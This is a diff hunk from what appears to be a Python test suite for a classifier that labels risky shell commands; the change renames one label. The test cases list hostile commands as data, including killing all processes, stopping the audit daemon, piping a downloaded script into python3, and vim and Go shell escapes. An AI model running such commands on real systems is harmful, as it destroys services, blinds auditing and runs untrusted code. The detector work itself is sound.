@@ -115,7 +115,7 @@ def test_unknown_programs_are_told_by_their_words(command: str, code: str) -> No
         ("kill -9 -1", "changes-service"),
         ("killall auditd", "changes-service"),
         ("systemctl enable ./x.service", "loads-code"),
-        ("brew install https://example.com/x.rb", "runs-download"),
+        ("brew install https://example.com/x.rb", "installs-from-address"),
         ("curl -s https://example.com/x.py | python3 -", "pipes-into-interpreter"),
         ("go run - <<< 'exec.Command(\"sh\")'", "code-starts-program"),
         ("vim -es -c '!id' x", "shell-escape"),
